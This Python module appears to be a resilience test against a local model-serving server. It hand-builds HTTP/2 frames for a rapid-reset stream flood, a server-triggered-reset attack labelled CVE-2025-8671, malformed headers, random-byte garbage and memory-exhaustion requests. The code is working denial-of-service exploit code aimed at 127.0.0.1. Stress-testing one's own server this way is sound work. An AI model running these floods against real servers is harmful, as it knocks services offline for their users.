"""HTTP/2 as no client speaks it: floods of resets, frames that make the server reset, garbage, promises of memory."""

import os
import socket
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass

import grpc
import numpy as np

from benchmarks.serving import grpc_body
from serving.messages.protos import predict_pb2, types_pb2

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE = 0, 1, 3, 4, 8
END_STREAM, END_HEADERS = 1, 4
#: Several times what the server puts up with at once.
_STREAMS = 10_000
_BATCH = 100


@dataclass(frozen=True)
class Target:
    """The server's ports."""

    rest_port: int
    grpc_port: int


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _headers() -> bytes:
    """The header block of a Predict, in literals."""
    fields = {
        b":method": b"POST",
        b":scheme": b"http",
        b":path": b"/tensorflow.serving.PredictionService/Predict",
        b":authority": b"x",
        b"content-type": b"application/grpc",
        b"te": b"trailers",
    }
    return b"".join(
        b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value for name, value in fields.items()
    )


def _message() -> bytes:
    body = grpc_body("x", np.ones(1, np.float32), "light")
    return b"\0" + struct.pack(">I", len(body)) + body


def _flood(target: Target, make: Callable[[int], bytes], streams: int = _STREAMS) -> str:
    """Send what `make` gives for each stream until the server hangs up, reading what comes."""
    with socket.create_connection(("127.0.0.1", target.grpc_port), timeout=20) as connection:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        for first in range(1, 2 * streams, 2 * _BATCH):
            connection.sendall(b"".join(make(stream) for stream in range(first, first + 2 * _BATCH, 2)))
            connection.setblocking(False)
            try:
                while connection.recv(1 << 18):
                    pass
                return "hung up"
            except BlockingIOError:
                connection.settimeout(20)
    return "took all"


def rapid_reset(target: Target) -> str:
    headers, cancel = _headers(), struct.pack(">I", 8)
    return _flood(
        target,
        lambda stream: frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, cancel),
    )


def made_you_reset(target: Target) -> str:
    """Whole calls, each followed by what makes the server reset its stream (CVE-2025-8671)."""
    headers, message = _headers(), _message()
    outcomes = []
    for kind, payload in (
        (WINDOW_UPDATE, struct.pack(">I", 0)),
        (WINDOW_UPDATE, struct.pack(">I", 2**31 - 1)),
        (DATA, b"x"),
    ):

        def one(stream: int, kind: int = kind, payload: bytes = payload) -> bytes:
            return (
                frame(HEADERS, END_HEADERS, stream, headers)
                + frame(DATA, END_STREAM, stream, message)
                + frame(kind, 0, stream, payload)
            )

        try:
            outcomes.append(_flood(target, one))
        except OSError:
            outcomes.append("cut off")
    return ", ".join(outcomes)


def bad_headers(target: Target) -> str:
    block = _headers() + b"\0\1A\1a"
    return _flood(target, lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, block))


def garbage(target: Target) -> str:
    """Bytes that are no protocol at all, to both ports; after the preface, too."""
    for port in (target.grpc_port, target.rest_port):
        for start in (b"", PREFACE, PREFACE + frame(SETTINGS, 0, 0)):
            with socket.create_connection(("127.0.0.1", port), timeout=20) as connection:
                connection.sendall(start + os.urandom(4096))
                time.sleep(0.05)
    return "sent"


def promises(target: Target) -> str:
    """A small message that declares 30 tensors of 64 MiB, and one of a length that never comes."""
    request = predict_pb2.PredictRequest()
    request.model_spec.name = "light"
    for number in range(30):
        tensor = request.inputs[f"i{number}"]
        tensor.dtype = types_pb2.DT_FLOAT
        tensor.tensor_shape.dim.add().size = 1 << 24
        tensor.float_val.append(1)
    with grpc.insecure_channel(
        f"127.0.0.1:{target.grpc_port}", options=[("grpc.use_local_subchannel_pool", 1)]
    ) as channel:
        predict = channel.unary_unary("/tensorflow.serving.PredictionService/Predict")
        try:
            predict(request.SerializeToString(), timeout=30)
            status = "OK"
        except grpc.RpcError as error:
            status = error.code().name
    with socket.create_connection(("127.0.0.1", target.grpc_port), timeout=20) as connection:
        start = frame(HEADERS, END_HEADERS, 1, _headers()) + frame(
            DATA, 0, 1, b"\0" + struct.pack(">I", 1 << 30)
        )
        connection.sendall(
            PREFACE + frame(SETTINGS, 0, 0) + start + b"".join(frame(DATA, 0, 1, b"x") for _ in range(1000))
        )
        time.sleep(0.2)
    return status


KINDS: dict[str, Callable[[Target], str]] = {
    "rapid_reset": rapid_reset,
    "made_you_reset": made_you_reset,
    "bad_headers": bad_headers,
    "garbage": garbage,
    "promises": promises,
}
